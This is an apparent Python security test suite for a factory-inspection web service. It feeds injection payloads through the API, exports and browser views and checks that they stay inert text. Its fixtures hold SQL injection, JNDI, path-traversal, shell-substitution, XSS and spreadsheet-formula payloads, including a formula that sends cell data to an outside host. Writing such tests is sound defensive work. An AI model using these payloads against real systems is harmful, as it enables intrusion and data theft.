"""Texts that are commands somewhere: to a database, a file system, a browser, a spreadsheet. In
Kizu they are texts, wherever they are sent, stored, searched, exported and shown."""

import csv
import io
import json
import re
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote
from urllib.request import Request, urlopen

import httpx2 as httpx
import numpy as np
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import sync_playwright
from prometheus_client.parser import text_string_to_metric_families
from sqlalchemy import Engine as Database
from sqlalchemy import func, inspect, select
from sqlalchemy.orm import Session

from service.app import create_app
from service.engine import FakeEngine
from service.gate import COOKIE
from service.imports import read_labelled
from service.settings import Settings
from service.store import accounts
from service.store.database import open_database
from service.store.tables import Feedback, Inspection
from tests.console.conftest import CHROMIUM, FLAGS
from tests.gates.gate import Findings
from tests.grey_parts import PNG, image, write_version
from tests.listening import listening

SLIPPED = "kizu-slipped"
RAN = "window.ran=1"
SQL = (
    "'; DROP TABLE inspections; --", "' OR '1'='1", '" OR ""="', "1; DELETE FROM feedback",
    "%' OR 1=1 --", "') UNION SELECT name, password FROM users --", "%", "_", "\\", "x'--",
    "'||(SELECT password FROM users)||'", "1 OR pg_sleep(30)", "${jndi:ldap://kizu.invalid/a}",
    "{0.__class__.__init__.__globals__}", "{{7*7}}", "%s%n%(name)s", ":recipe",
)  # fmt: skip
PATHS = (
    f"../../../../../../tmp/{SLIPPED}", f"..\\..\\{SLIPPED}", f"/tmp/{SLIPPED}", "..", ".",
    f"....//....//{SLIPPED}", f"%2e%2e%2f{SLIPPED}", "file:///etc/passwd", "C:\\Windows", "con",
    "NUL", "good", "Good", "aux.txt", "~root", "a/b", "COM1", f"$(touch /tmp/{SLIPPED})",
    "傷" * 200, f"`touch /tmp/{SLIPPED}`", "|id", "-rf", "*", "a\u202egnp.exe",
)  # fmt: skip
SCRIPTS = (
    f"<script>{RAN}</script>", f"<img src=x onerror={RAN}>", f'"><svg onload={RAN}>',
    f"javascript:{RAN}", f"'-{RAN}-'", f"</title></script><script>{RAN}</script>",
    f'<iframe srcdoc="<script>parent.{RAN.removeprefix("window.")}</script>">',
    f'<a href="javascript:{RAN}" autofocus onfocus={RAN}>x</a>', f"${{{RAN}}}", "<!--", "$&$1$`",
    f"<style onload={RAN}></style>", "{by}{reason}{n}", "&lt;b&gt;&#x3c;", "__proto__",
    "constructor",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://kizu.invalid/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1,1)",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "a;=1+1;b", "'=1+1", '"=1+1', ";;=1+1", "=1+1\u2028=1+1",
)  # fmt: skip
LINES = ("x\n=1+1\n", "\t=1+1", "x\r=1+1", "x\t=1+1", "\n\n-1")  # where a text may have several
_HASHES = (
    f"history/{quote(f'part_id={SCRIPTS[1]}')}", f"inspection/{quote(SCRIPTS[1])}", "inspection/%",
    f"inspection/{SCRIPTS[1]}", SCRIPTS[1], "constructor", "__proto__",
    f"history/{quote(SCRIPTS[2])}",
)  # fmt: skip
# What a page that let a script in would do next; and which of the policy's directives forbids it.
_PROVOKED = {
    "an inline script": "make('script', { textContent: 'window.ran=1' })",
    "a handler": "make('div', { innerHTML: '<img src=x onerror=window.ran=1>' })",
    "a javascript: address": "make('a', { href: 'javascript:window.ran=1' }).click()",
    "a text that is run": "setTimeout('window.ran=1')",
    "a script from elsewhere": "make('script', { src: 'http://kizu.invalid/x.js' })",
    "a module from a blob": "import(URL.createObjectURL(new Blob(['window.ran=1'])))",
    "a worker from a blob": "new Worker(URL.createObjectURL(new Blob(['1'])))",
    "a style": "make('style', { textContent: 'body { color: red }' })",
    "a picture from elsewhere": "make('img', { src: 'http://kizu.invalid/x.png' })",
    "an object": "make('object', { data: '/app.js' })",
    "a frame from elsewhere": "make('iframe', { src: 'http://kizu.invalid/' })",
    "a frame of text": "make('iframe', { src: 'data:text/html,x' })",
    "a request elsewhere": "fetch('http://kizu.invalid/?' + document.title).catch(() => {})",
    "a form that is sent elsewhere":
        "const form = make('form', { action: 'http://kizu.invalid/' }); form.submit()",
    "another base": "make('base', { href: 'http://kizu.invalid/' })",
}  # fmt: skip
_PROVOKE = """(code) => new Promise((done) => {
    document.addEventListener('securitypolicyviolation',
        (event) => done(event.effectiveDirective), { once: true });
    setTimeout(() => done(null), 5000);
    const make = (name, what) => {
        const made = Object.assign(document.createElement(name), what);
        document.body.append(made);
        return made;
    };
    CODE
})"""
_BEGINS = tuple("=+-@＝＋－＠")

FEW = 1  # of each kind, in the short form
_WAIT_MS = 20_000
_OWN = re.compile(
    r"data/(kizu\.sqlite3(-wal|-shm)?|reserve|owner|blobs(/[0-9a-f]{2}(/[0-9a-f]{64})?)?"
    r"|bundles(/[0-9a-f]{64}(/cap(/[12](/[a-z_]+\.[a-z]+)?)?)?)?)"
)


def run(full: bool, progress: Callable[[float], None]) -> Findings:
    """Every text in every place; in the short form some of each kind, and fewer views."""
    found = Findings(seed=13)
    texts = [*SQL, *PATHS, *SCRIPTS, *FORMULAS]
    if not full:
        rng = np.random.default_rng(found.seed)
        texts = [kind[n] for kind in (SQL, PATHS, SCRIPTS, FORMULAS) for n in _some(rng, kind)]
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        write_version(folder / "store")
        write_version(folder / "store", 2)
        (folder / "data").mkdir()
        settings = Settings(
            store=folder / "store", data=folder / "data", access="closed", promotion="manual"
        )
        database = open_database(settings.database_url)
        with Session(database) as session, session.begin():
            key = accounts.add_key(session, SCRIPTS[0], "admin")
            user = accounts.add_user(session, SCRIPTS[1], "admin", "three odd words")
            session.flush()
            token = accounts.log_in(session, user, timedelta(hours=1))
        outside = _outside(folder)
        tables = inspect(database).get_table_names()
        app = create_app(settings, open_engine=lambda bundle: FakeEngine())
        with listening(app) as (host, port):
            address = f"http://{host}:{port}"
            headers = {"authorization": f"Bearer {key}"}
            with httpx.Client(base_url=address, headers=headers, timeout=60) as api:
                for number, text in enumerate(texts):
                    _write(found, api, text)
                    progress(0.5 * (number + 1) / len(texts))
                for text in LINES:
                    _label(api, _inspect(api, "lines"), comment=text)
                for text in texts:
                    _search(found, api, text)
                _name(found, api, texts)
                _export(found, api, folder)
                _measure(found, api, texts)
                progress(0.7)
                waiting = _inspect(api, "".join(SCRIPTS)[:200])
                if full or CHROMIUM.exists():
                    _show(found, address, token, waiting, texts, full=full)
            app.state.live.close()
        if inspect(database).get_table_names() != tables:
            found.fail(f"the tables are {inspect(database).get_table_names()}")
        _count(found, database, len(texts))
        if _outside(folder) != outside or (Path("/tmp") / SLIPPED).exists():
            found.fail(f"there are other files now: {_outside(folder) ^ outside}")
        database.dispose()
    progress(1.0)
    return found


def _some(rng: np.random.Generator, kind: tuple[str, ...]) -> list[int]:
    return [int(n) for n in rng.choice(len(kind), FEW, replace=False)]


def _outside(folder: Path) -> set[str]:
    """Every file but the database's and what is named by its content."""
    every = {str(path.relative_to(folder)) for path in folder.rglob("*")}
    return {path for path in every if not _OWN.fullmatch(path)}


def _inspect(api: httpx.Client, text: str, grey: int = 200) -> dict[str, Any]:
    asked = {"part_id": text, "lot": text, "camera": text}
    answer = api.post("/v1/inspect", content=image(grey), params=asked, headers=PNG)
    found: dict[str, Any] = answer.raise_for_status().json()
    return found


def _label(api: httpx.Client, part: dict[str, Any], **said: str) -> None:
    label = {"inspection_id": part["id"], "verdict": "ng", "operator": "Aya", **said}
    api.post("/v1/feedback", json=label).raise_for_status()


def _write(found: Findings, api: httpx.Client, text: str) -> None:
    """Into every field that is kept; what is kept is the text, and nothing else."""
    part = _inspect(api, text)
    _label(api, part, operator=text, defect_class=text, comment=text)
    why = {"by": text, "reason": text}
    lines = {"review": 100.0, "ng": 150.0, "bundle_version": 1}
    settings = {"product": text, "reference": text}
    asked = {
        "/v1/recipes/cap/promotions": {"version": 1} | why,
        "/v1/recipes/cap/thresholds": lines | why,
        "/v1/recipes/cap/revisions": {"settings": settings} | why,
        "/v1/recipes/cap/candidates": {"version": None} | why,
        "/v1/recipes/cap/trainings": {"labels": {"without": [text]}} | why,
    }
    for where, body in asked.items():
        answer = api.post(where, json=body)
        if answer.status_code != 201:
            found.fail(f"{where} with {text!r}: {answer.status_code} {answer.text}")
            continue
        kept = answer.json()
        if where.endswith("trainings"):
            api.post(f"/v1/trainings/{kept['id']}/cancel", json={"by": text}).raise_for_status()
        if (kept["by"], kept["reason"]) != (text, text):
            found.fail(f"{where} keeps {kept} of {text!r}")
        found.count("fields", 2)
    mask = f"/v1/inspections/{part['id']}/draft"
    drawn = api.put(mask, params={"operator": text}, content=image(255), headers=PNG)
    if drawn.status_code != 204 or api.get(mask, params={"operator": text}).status_code != 200:
        found.fail(f"the draft of {text!r}: {drawn.status_code} {drawn.text}")
    trail = api.get(f"/v1/inspections/{part['id']}/trail").raise_for_status().json()
    item, label = trail["inspection"], trail["labels"][0]
    for field, kept in (
        *((name, item[name]) for name in ("part_id", "lot", "camera")),
        *((name, label[name]) for name in ("operator", "defect_class", "comment")),
    ):
        found.count("fields")
        if kept != text:
            found.fail(f"{field} keeps {kept!r} of {text!r}")
    _batch(found, api, text)


def _batch(found: Findings, api: httpx.Client, text: str) -> None:
    """A file's name, and a form's charset, are their sender's."""
    for name in ("utf-8", "utf-16", "idna", "punycode", "raw_unicode_escape"):
        quoted = text.replace("\\", "\\\\").replace('"', '\\"')
        head = f'Content-Disposition: form-data; name="images"; filename="\\ud800{quoted}"'
        form = f"--b\r\n{head}\r\nContent-Type: image/png\r\n\r\n".encode()
        kind = f"multipart/form-data; boundary=b; charset={name}"
        answer = api.post(
            "/v1/inspect/batch", content=form + image(50) + b"\r\n--b--\r\n",
            headers={"content-type": kind}, params={"simulated": True},
        )  # fmt: skip
        found.count("forms")
        if answer.status_code not in (200, 422):
            found.fail(f"a file {text!r} in {name}: {answer.status_code} {answer.text}")


def _search(found: Findings, api: httpx.Client, text: str) -> None:
    """For a text one finds what has it, and nothing else."""
    for name in ("part_id", "lot", "camera"):
        found.count("searches")
        page = api.get("/v1/inspections", params={name: text}).raise_for_status().json()
        if [item[name] for item in page["items"]] != [text]:
            found.fail(f"{name}={text!r} finds {len(page['items'])} parts")
    part = api.get(f"/v1/parts/{quote(text, safe='')}", params={"product": text})
    if part.status_code == 200 and part.json()["part_id"] != text:
        found.fail(f"the part {text!r} is {part.text}")
    for where, params in (
        ("/v1/inspections", {"recipe": text}), ("/v1/export", {"recipe": text}),
        ("/v1/shift", {"recipe": text}), ("/v1/review", {"recipe": text}),
        ("/v1/trainings", {"recipe": text}), ("/v1/inspections", {"before": text}),
        ("/v1/review", {"after": text}), ("/v1/inspections", {"verdict": text}),
        ("/v1/inspections", {"since": text}), ("/v1/inspections", {"bundle_version": text}),
        ("/v1/export", {"format": text}), ("/v1/audit", {"before": text}),
    ):  # fmt: skip
        found.count("searches")
        answer = api.get(where, params=params)
        if answer.status_code == 200:
            disposition = answer.headers.get("content-disposition", "")
            lines = len(answer.text.splitlines()) if "export" in where else 1
            held = answer.json() if lines and "json" in answer.headers["content-type"] else []
            held = held.get("items", []) if isinstance(held, dict) else held
            if held or lines != 1 or set(disposition) & set("\\/<>*|'"):
                found.fail(f"{where} {params} gives {answer.text[:200]} {disposition}")
        elif answer.status_code not in (404, 422):
            found.fail(f"{where} {params}: {answer.status_code} {answer.text}")


def _name(found: Findings, api: httpx.Client, texts: list[str]) -> None:
    """As a name in an address: there is nothing of that name."""
    described = api.get("/openapi.json").json()
    for text in set(texts) - {".", ".."}:  # which a client leaves out, as browsers do
        for path, methods in described["paths"].items():
            if "{" not in path:
                continue
            for method in methods:
                name = path.split("{")[1].partition("}")[0]
                where = path.replace(f"{{{name}}}", quote(text, safe=""))
                where = where.replace("{version}", "1")
                answer = api.request(
                    method.upper(), where, params={"operator": "x", "product": "x"}
                )
                found.count("addresses")
                fine = answer.status_code in (404, 405, 422) or name == "part_id"
                if not fine or answer.headers["content-type"].startswith("text/html"):
                    found.fail(f"{method} {where}: {answer.status_code} {answer.text[:200]}")


def _export(found: Findings, api: httpx.Client, folder: Path) -> None:
    table = api.get("/v1/export").raise_for_status().content
    _check_cells(found, table)
    for format in ("mvtec", "coco", "masks"):
        content = api.get("/v1/export", params={"format": format}).raise_for_status().content
        target = folder / "unpacked" / format
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                found.count("files in archives")
                parts = name.split("/")
                if not all(_is_tame(part) for part in parts):
                    found.fail(f"{format}: a file {name!r}")
                    continue
                archive.extract(name, target)
                if len(parts) > 2 and parts[1] == "test" and parts[2].casefold() == "good":
                    found.fail(f"{format}: a defective part among the good ones: {name!r}")
        if format == "masks":
            _check_cells(found, (target / "labels.csv").read_bytes())
        root = target / "cap" if format == "mvtec" else target
        good = [one for one in read_labelled(root, format) if one.verdict == "ok"]
        if format != "coco" and good:  # COCO has no label but shapes, and these have none
            found.fail(f"{format}: {len(good)} defective parts come back as good ones")
        shutil.rmtree(target)
    (folder / "unpacked").rmdir()


def _is_tame(part: str) -> bool:
    stem = part.split(".")[0].casefold()
    ports = {f"{port}{number}" for port in ("com", "lpt") for number in range(10)}
    devices = {"con", "prn", "aux", "nul", *ports}
    return (
        part not in ("", ".", "..")
        and stem not in devices
        and len(part.encode()) <= 255
        and not set(part) & set('\\:*?"<>|')
        and part.isprintable()
        and part == part.strip(" .")
    )


def _check_cells(found: Findings, table: bytes) -> None:
    """However a spreadsheet parts them; and read as they were written, they are the texts."""
    text = table.decode("utf-8-sig")
    for separator in (",", ";", "\t"):
        lines = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        careless = (line.split(separator) for line in text.replace("\r", "\n").split("\n"))
        for line in (*lines, *(careless if separator != "," else ())):
            for cell in line:
                found.count("cells")
                if cell.lstrip("\t\r\n").startswith(_BEGINS) and not _is_number(cell):
                    found.fail(f"a spreadsheet that parts by {separator!r} runs {cell!r}")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _measure(found: Findings, api: httpx.Client, texts: list[str]) -> None:
    """Prometheus reads the texts as labels."""
    cameras = {
        sample.labels.get("camera")
        for family in text_string_to_metric_families(api.get("/metrics").raise_for_status().text)
        for sample in family.samples
    }
    if lost := set(texts) - cameras:
        found.fail(f"/metrics does not have {lost}")
    [first] = api.get("/v1/inspections", params={"part_id": texts[0]}).json()["items"]
    told = {texts[0]}
    asked = Request(
        str(api.base_url.join("/v1/events")),
        headers={"Authorization": api.headers["authorization"], "Last-Event-ID": first["id"]},
    )
    with urlopen(asked, timeout=_WAIT_MS / 1000) as events:
        while not told.issuperset(texts):
            line = events.readline()
            if line.startswith(b"data:"):
                told.add(json.loads(line.removeprefix(b"data:"))["part_id"])


def _count(found: Findings, database: Database, texts: int) -> None:
    with Session(database) as session:
        labels = session.scalar(select(func.count()).select_from(Feedback))
        parts = session.scalar(select(func.count()).where(Inspection.simulated.is_(False)))
    if (labels, parts) != (texts + len(LINES), texts + len(LINES) + 1):
        found.fail(f"of {texts} parts and labels there are {parts} and {labels}")


def _show(
    found: Findings, address: str, token: str, waiting: dict[str, Any], texts: list[str], *,
    full: bool,
) -> None:  # fmt: skip
    """In a browser: every view shows every text as it is, and nothing of it happens."""
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        context = browser.new_context(locale="en")
        context.set_default_timeout(_WAIT_MS)
        context.add_cookies([{"name": COOKIE, "value": token, "url": address}])
        page = context.new_page()
        said = _listen(page)
        page.goto(address)
        page.wait_for_selector("#state[data-state=ready]")
        _sees(found, page, "the frame", "#who", [SCRIPTS[1]])
        seen = {
            "history/verdict=ng": texts[-20:],
            "review": [waiting["part_id"]],
            f"inspection/{waiting['id']}": [waiting["part_id"]],
            "thresholds": texts,
            "models": texts,
            "training": texts[-20:],
            "recipe": texts,
            "drift": texts,
            "line": [],
        }
        for view, shown in list(seen.items())[: None if full else FEW]:
            page.goto(f"{address}/#/{view}")
            _sees(found, page, view, f".view.{view.partition('/')[0]}", shown)
        for hash in _HASHES[: None if full else FEW]:
            page.goto(f"{address}/#/{hash}")
            _sees(found, page, hash, ".view", [])
        for complaint in said:
            # There is no inspection of such a name, and the browser says so.
            if "404" not in complaint and "422" not in complaint:
                found.fail(f"the console says {complaint}")
        _open(found, page, address)
        _provoke(found, page, address, full=full)
        if full:
            _frame(found, context.new_page(), address)
        browser.close()


def _listen(page: Any) -> list[str]:
    """What goes wrong from here on; also a dialog, which only a script opens."""
    said: list[str] = []
    page.on("console", lambda text: said.append(text.text) if text.type == "error" else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    return said


def _sees(found: Findings, page: Any, view: str, place: str, texts: list[str]) -> None:
    found.count("views")
    missing = """([place, texts]) => {
        const shown = document.querySelector(place)?.textContent;
        return shown ? texts.filter((text) => !shown.includes(text)) : ['anything'];
    }"""
    try:
        page.wait_for_function(f"(asked) => ({missing})(asked).length === 0", arg=[place, texts])
    except PlaywrightError:
        found.fail(f"{view} does not show {page.evaluate(missing, [place, texts])}")
    foreign = "main script, main iframe, [onerror], [onload], [onfocus], [srcdoc], a[href^=java]"
    if page.locator(foreign).count() or page.evaluate("window.ran") is not None:
        found.fail(f"{view} took a text for something else")


def _open(found: Findings, page: Any, address: str) -> None:
    """An answer that is opened as a page is none."""
    script = quote(SCRIPTS[0], safe="")
    for where in (
        f"/v1/inspections?part_id={script}", f"/v1/inspections/{script}", f"/{script}",
        f"/v1/parts/x?product={script}", "/v1/recipes/cap/revisions",
    ):  # fmt: skip
        found.count("answers opened")
        answer = page.goto(address + where)
        html = answer.headers["content-type"].startswith("text/html")
        if html or answer.headers.get("x-content-type-options") != "nosniff":
            found.fail(f"{where} is opened as {answer.headers}")
        if page.evaluate("window.ran") is not None:
            found.fail(f"{where} ran")


def _provoke(found: Findings, page: Any, address: str, *, full: bool) -> None:
    """Had a script come in, it could do nothing."""
    for what, code in list(_PROVOKED.items())[: None if full else FEW]:
        found.count("provoked")
        page.goto(f"{address}/#/line")
        page.wait_for_selector("#state[data-state=ready]")
        try:
            refused = page.evaluate(_PROVOKE.replace("CODE", code)) is not None
        except PlaywrightError:  # the page is another one now
            refused = False
        if not refused or page.evaluate("window.ran") is not None:
            found.fail(f"{what} is not refused")


def _frame(found: Findings, page: Any, address: str) -> None:
    """Another site cannot put Kizu under its own buttons."""
    site = FastAPI()

    @site.get("/")
    async def frame(where: str) -> HTMLResponse:
        return HTMLResponse(f"<iframe src='{address}{where}'></iframe>")

    with listening(site) as (host, port):
        for where in ("/", "/docs", "/v1/recipes", "/v1/recipes/cap/bundles/1/report"):
            found.count("frames")
            try:
                with page.expect_console_message(lambda said: "frame-ancestors" in said.text):
                    page.goto(f"http://{host}:{port}/?where={where}")
            except PlaywrightError:
                found.fail(f"{where} is shown in another site's frame")
